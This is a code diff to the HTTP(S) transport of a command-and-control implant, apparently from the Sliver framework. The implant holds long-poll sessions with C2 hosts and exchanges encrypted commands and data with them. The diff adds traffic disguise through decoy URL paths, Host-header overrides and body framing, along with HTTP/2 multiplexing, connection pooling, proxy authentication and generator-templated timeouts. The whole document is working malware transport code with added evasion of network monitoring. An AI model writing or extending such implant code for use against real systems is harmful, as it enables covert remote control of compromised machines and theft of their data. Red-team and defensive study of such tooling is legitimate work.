@@ -5,26 +5,91 @@ package transports
 import (
 	"bytes"
 	"crypto/rsa"
+	"crypto/tls"
 	"crypto/x509"
 	"encoding/pem"
 	"errors"
 	"fmt"
+	"io"
 	"io/ioutil"
 	"log"
 	"net"
 	"net/http"
 	"net/url"
 	"path"
+	"strconv"
+	"sync"
 	"time"
 
 	pb "sliver/protobuf/sliver"
 
 	"github.com/golang/protobuf/proto"
+	"golang.org/x/net/http2"
 )
 
 const (
-	defaultTimeout    = time.Second * 10
-	defaultReqTimeout = time.Second * 60 // Long polling, we want a large timeout
+	defaultTimeout             = time.Second * 10
+	defaultReqTimeout          = time.Second * 60 // Long polling, we want a large timeout
+	defaultKeepAliveTimeout    = time.Second * 30
+	defaultMaxIdleConnsPerHost = 3
+	defaultConcurrentTransfers = 4
+)
+
+// HTTPClientConfig - Tunable knobs for the underlying net/http transport.
+type HTTPClientConfig struct {
+	DialTimeout         time.Duration
+	KeepAliveTimeout    time.Duration
+	TLSHandshakeTimeout time.Duration
+	MaxIdleConnsPerHost int
+	ConcurrentTransfers int
+}
+
+// Raw knob values, baked in by the generator as {{.Field}} placeholders. An
+// empty or unparsable value (e.g. the placeholder was left untouched) falls
+// back to the hardcoded default below.
+var (
+	dialTimeoutRaw         = "{{.DialTimeout}}"
+	keepAliveTimeoutRaw    = "{{.KeepAliveTimeout}}"
+	tlsHandshakeTimeoutRaw = "{{.TLSHandshakeTimeout}}"
+	maxIdleConnsPerHostRaw = "{{.MaxIdleConnsPerHost}}"
+	concurrentTransfersRaw = "{{.ConcurrentTransfers}}"
+)
+
+var httpConfig = HTTPClientConfig{
+	DialTimeout:         durationOrDefault(dialTimeoutRaw, defaultTimeout),
+	KeepAliveTimeout:    durationOrDefault(keepAliveTimeoutRaw, defaultKeepAliveTimeout),
+	TLSHandshakeTimeout: durationOrDefault(tlsHandshakeTimeoutRaw, defaultTimeout),
+	MaxIdleConnsPerHost: intOrDefault(maxIdleConnsPerHostRaw, defaultMaxIdleConnsPerHost),
+	ConcurrentTransfers: intOrDefault(concurrentTransfersRaw, defaultConcurrentTransfers),
+}
+
+// durationOrDefault - Parses raw as a time.Duration, falling back to
+// fallback if raw is empty or not a valid duration.
+func durationOrDefault(raw string, fallback time.Duration) time.Duration {
+	parsed, err := time.ParseDuration(raw)
+	if err != nil || parsed <= 0 {
+		return fallback
+	}
+	return parsed
+}
+
+// intOrDefault - Parses raw as an int, falling back to fallback if raw is
+// empty, not a valid int, or not positive.
+func intOrDefault(raw string, fallback int) int {
+	parsed, err := strconv.Atoi(raw)
+	if err != nil || parsed <= 0 {
+		return fallback
+	}
+	return parsed
+}
+
+// Shared transport pool, keyed by scheme+host, so an implant that talks to
+// several C2 hosts (or repeatedly re-inits a session against the same host)
+// reuses the same multiplexed connection(s) instead of paying a fresh
+// TLS/HTTP2 handshake on every request.
+var (
+	httpClientPoolMutex sync.Mutex
+	httpClientPool      = map[string]*http.Client{}
 )
 
 // HTTPStartSession - Attempts to start a session with a given address
@@ -48,6 +113,43 @@ type SliverHTTPClient struct {
 	Client     *http.Client
 	SessionKey *AESKey
 	SessionID  string
+
+	// Profile shapes decoy paths, Host header, extra headers, and request
+	// body framing. Defaults to defaultProfile (no change in behavior).
+	Profile HTTPProfile
+
+	// transfers bounds the number of concurrent Get/Post calls a single
+	// client will have in flight at once.
+	transfers chan struct{}
+}
+
+// applyProfile - Sets the profile's Host header/extra headers on req.
+func (s *SliverHTTPClient) applyProfile(req *http.Request) {
+	if s.Profile == nil {
+		return
+	}
+	for header, value := range s.Profile.Headers() {
+		req.Header.Set(header, value)
+	}
+	if host := s.Profile.Host(); host != "" {
+		req.Host = host
+	}
+}
+
+// decodeBody - Unframes a response body via the active profile.
+func (s *SliverHTTPClient) decodeBody(resp *http.Response) ([]byte, error) {
+	if s.Profile == nil {
+		return ioutil.ReadAll(resp.Body)
+	}
+	return s.Profile.DecodeResponseBody(resp)
+}
+
+// encodeBody - Frames an outgoing ciphertext body via the active profile.
+func (s *SliverHTTPClient) encodeBody(data []byte) (io.Reader, string, error) {
+	if s.Profile == nil {
+		return bytes.NewReader(data), "", nil
+	}
+	return s.Profile.EncodeRequestBody(data)
 }
 
 // SessionInit - Initailize the session
@@ -78,7 +180,8 @@ func (s *SliverHTTPClient) SessionInit() error {
 }
 
 func (s *SliverHTTPClient) getPublicKey() *rsa.PublicKey {
-	req, _ := http.NewRequest("GET", fmt.Sprintf("%s/rsakey", s.Origin), nil)
+	req, _ := http.NewRequest("GET", s.toURL("/rsakey"), nil)
+	s.applyProfile(req)
 	resp, err := s.Client.Do(req)
 	if err != nil || resp.StatusCode != 200 {
 		// {{if. Debug}}
@@ -115,11 +218,15 @@ func (s *SliverHTTPClient) getPublicKey() *rsa.PublicKey {
 func (s *SliverHTTPClient) getSessionID(sessionInit []byte) error {
 	reader := bytes.NewReader(sessionInit) // Already RSA encrypted
 	req, _ := http.NewRequest("POST", s.toURL("/start"), reader)
+	s.applyProfile(req)
 	resp, err := s.Client.Do(req)
 	if err != nil {
 		return err
 	}
-	respData, _ := ioutil.ReadAll(resp.Body)
+	respData, err := s.decodeBody(resp)
+	if err != nil {
+		return err
+	}
 	sessionID, err := GCMDecrypt(*s.SessionKey, respData)
 	if err != nil {
 		return err
@@ -133,7 +240,10 @@ func (s *SliverHTTPClient) Get(urlPath string) ([]byte, error) {
 	if s.SessionID == "" || s.SessionKey == nil {
 		return nil, errors.New("no session")
 	}
+	s.transfers <- struct{}{}
+	defer func() { <-s.transfers }()
 	req, _ := http.NewRequest("GET", s.toURL(urlPath), nil)
+	s.applyProfile(req)
 	resp, err := s.Client.Do(req)
 	if err != nil {
 		// {{if. Debug}}
@@ -144,7 +254,10 @@ func (s *SliverHTTPClient) Get(urlPath string) ([]byte, error) {
 	if resp.StatusCode != 200 {
 		return nil, errors.New("Non-200 response code")
 	}
-	respData, _ := ioutil.ReadAll(resp.Body)
+	respData, err := s.decodeBody(resp)
+	if err != nil {
+		return nil, err
+	}
 	return GCMDecrypt(*s.SessionKey, respData)
 }
 
@@ -153,9 +266,21 @@ func (s *SliverHTTPClient) Post(urlPath string, data []byte) ([]byte, error) {
 	if s.SessionID == "" || s.SessionKey == nil {
 		return nil, errors.New("no session")
 	}
+	s.transfers <- struct{}{}
+	defer func() { <-s.transfers }()
 	reqData, err := GCMEncrypt(*s.SessionKey, data)
-	reader := bytes.NewReader(reqData)
-	req, _ := http.NewRequest("POST", s.toURL(urlPath), reader)
+	if err != nil {
+		return nil, err
+	}
+	body, contentType, err := s.encodeBody(reqData)
+	if err != nil {
+		return nil, err
+	}
+	req, _ := http.NewRequest("POST", s.toURL(urlPath), body)
+	s.applyProfile(req)
+	if contentType != "" {
+		req.Header.Set("Content-Type", contentType)
+	}
 	resp, err := s.Client.Do(req)
 	if err != nil {
 		// {{if. Debug}}
@@ -166,41 +291,110 @@ func (s *SliverHTTPClient) Post(urlPath string, data []byte) ([]byte, error) {
 	if resp.StatusCode != 200 {
 		return nil, errors.New("Non-200 response code")
 	}
-	respData, _ := ioutil.ReadAll(resp.Body)
+	respData, err := s.decodeBody(resp)
+	if err != nil {
+		return nil, err
+	}
 	return GCMDecrypt(*s.SessionKey, respData)
 }
 
 func (s *SliverHTTPClient) toURL(urlPath string) string {
-	url, _ := url.Parse(s.Origin)
-	url.Path = path.Join(url.Path, urlPath)
-	return url.String()
+	if s.Profile != nil {
+		if decoy := s.Profile.Path(urlPath); decoy != "" {
+			urlPath = decoy
+		}
+	}
+	base, _ := url.Parse(s.Origin)
+	// Parse urlPath as its own (relative) URL so a decoy path that carries
+	// a query string (e.g. "/static/app.js?v=<b64>") keeps its query intact
+	// instead of being flattened into the path by path.Join.
+	rel, err := url.Parse(urlPath)
+	if err != nil {
+		base.Path = path.Join(base.Path, urlPath)
+		return base.String()
+	}
+	base.Path = path.Join(base.Path, rel.Path)
+	base.RawQuery = rel.RawQuery
+	return base.String()
 }
 
 // [ HTTP(S) Clients ] ------------------------------------------------------------
 
+// sharedHTTPClient - Returns the pooled *http.Client for a given scheme+host,
+// building one on first use. Reusing the *http.Client (and therefore its
+// underlying *http.Transport) across sessions to the same host means repeat
+// handshakes, and HTTP/2 connections, get reused instead of torn down.
+func sharedHTTPClient(address string, secure bool) *http.Client {
+	key := fmt.Sprintf("http://%s", address)
+	if secure {
+		key = fmt.Sprintf("https://%s", address)
+	}
+
+	httpClientPoolMutex.Lock()
+	defer httpClientPoolMutex.Unlock()
+	if client, ok := httpClientPool[key]; ok {
+		return client
+	}
+	client := newHTTPClient(secure)
+	httpClientPool[key] = client
+	return client
+}
+
+func newHTTPClient(secure bool) *http.Client {
+	netTransport := &http.Transport{
+		TLSHandshakeTimeout: httpConfig.TLSHandshakeTimeout,
+		MaxIdleConnsPerHost: httpConfig.MaxIdleConnsPerHost,
+	}
+	if secure {
+		if clientCert := loadClientCertificate(); clientCert != nil {
+			netTransport.TLSClientConfig = &tls.Config{
+				Certificates: []tls.Certificate{*clientCert},
+			}
+		}
+		// Negotiate HTTP/2 over ALPN so long-poll GETs and command POSTs
+		// can share a single multiplexed connection per host.
+		if err := http2.ConfigureTransport(netTransport); err != nil {
+			// {{if .Debug}}
+			log.Printf("Failed to configure HTTP/2 transport: %v", err)
+			// {{end}}
+		}
+		// http.Transport runs the proxy CONNECT tunnel itself, internally,
+		// before a wrapped RoundTripper ever sees a request - so any
+		// NTLM/Basic auth the proxy demands has to be handled inside the
+		// dial, not by wrapping the transport. See proxyDialContext.
+		netTransport.DialContext = proxyDialContext
+		return &http.Client{
+			Timeout:   defaultReqTimeout,
+			Transport: netTransport,
+		}
+	}
+	netTransport.Dial = (&net.Dialer{
+		Timeout:   httpConfig.DialTimeout,
+		KeepAlive: httpConfig.KeepAliveTimeout,
+	}).Dial
+	netTransport.Proxy = proxyFunc
+	return &http.Client{
+		Timeout:   defaultReqTimeout,
+		Transport: wrapProxyAuth(netTransport),
+	}
+}
+
 func httpClient(address string) *SliverHTTPClient {
 	return &SliverHTTPClient{
-		Origin: fmt.Sprintf("http://%s", address),
-		Client: &http.Client{
-			Timeout: defaultReqTimeout,
-		},
+		Origin:    fmt.Sprintf("http://%s", address),
+		Client:    sharedHTTPClient(address, false),
+		Profile:   loadHTTPProfile(),
+		transfers: make(chan struct{}, httpConfig.ConcurrentTransfers),
 	}
 }
 
 func httpsClient(address string) *SliverHTTPClient {
-	var netTransport = &http.Transport{
-		Dial: (&net.Dialer{
-			Timeout: defaultTimeout,
-		}).Dial,
-		TLSHandshakeTimeout: defaultTimeout,
-	}
 	return &SliverHTTPClient{
-		Origin: fmt.Sprintf("https://%s", address),
-		Client: &http.Client{
-			Timeout:   defaultReqTimeout,
-			Transport: netTransport,
-		},
+		Origin:    fmt.Sprintf("https://%s", address),
+		Client:    sharedHTTPClient(address, true),
+		Profile:   loadHTTPProfile(),
+		transfers: make(chan struct{}, httpConfig.ConcurrentTransfers),
 	}
 }
 
-// {{end}} -HTTPServer
\ No newline at end of file
+// {{end}} -HTTPServer